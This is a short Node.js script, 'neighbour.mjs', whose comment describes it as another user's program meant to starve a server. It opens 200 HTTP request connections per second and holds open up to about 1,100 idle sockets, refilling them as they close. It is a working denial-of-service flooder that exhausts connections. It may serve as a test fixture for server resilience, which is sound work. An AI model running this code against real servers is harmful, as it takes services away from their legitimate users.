/**
 * A program of another user that wants the server to have no time for others: 200 connections a second that ask for
 * something, and as many silent ones as the server lets it hold, and more. `node neighbour.mjs URL`; says `up`.
 */
import { connect } from 'node:net';

const [perSecond, held, every] = [200, 1100, 100];
const { hostname, port, host } = new URL(process.argv[2] ?? '');
const silent = new Set();

function open(onConnect) {
  const socket = connect(Number(port), hostname, () => onConnect?.(socket));
  socket.on('error', () => undefined);
  return socket.resume();
}

setInterval(() => {
  for (let count = 0; count < (perSecond * every) / 1000; count += 1) {
    const socket = open(() => socket.write(`GET / HTTP/1.1\r\nHost: ${host}\r\n\r\n`));
    setTimeout(() => socket.destroy(), every);
  }
  while (silent.size < held) {
    const socket = open();
    silent.add(socket);
    socket.once('close', () => silent.delete(socket));
  }
}, every);
setTimeout(() => console.log('up'), 1000);
